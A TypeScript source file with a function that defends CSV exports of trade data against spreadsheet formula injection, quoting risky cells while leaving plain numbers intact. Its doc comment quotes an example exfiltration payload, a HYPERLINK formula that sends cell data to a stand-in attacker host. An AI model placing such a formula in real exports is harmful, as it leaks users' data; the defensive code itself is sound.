const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;

/**
 * Excel, LibreOffice and Google Sheets evaluate a CSV cell that begins with = + - @ (or a tab or
 * carriage return before one) as a formula. Notes, symbols and account names come from users and
 * from broker files, so `=HYPERLINK("https://evil.example/?"&A1,"x")` or a DDE payload in a note
 * would run, or send the sheet's data away, when the trader opens the export. A leading `'` makes
 * the spreadsheet show the text literally (OWASP "CSV injection").
 *
 * A plain decimal such as "-12.5" is left alone: it cannot call anything, and prefixing it would
 * turn every losing trade's P&L into text the spreadsheet cannot sum. That is also why this runs on
 * our cells instead of csv-stringify's `escape_formulas`, which would quote negative numbers too.
 */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}
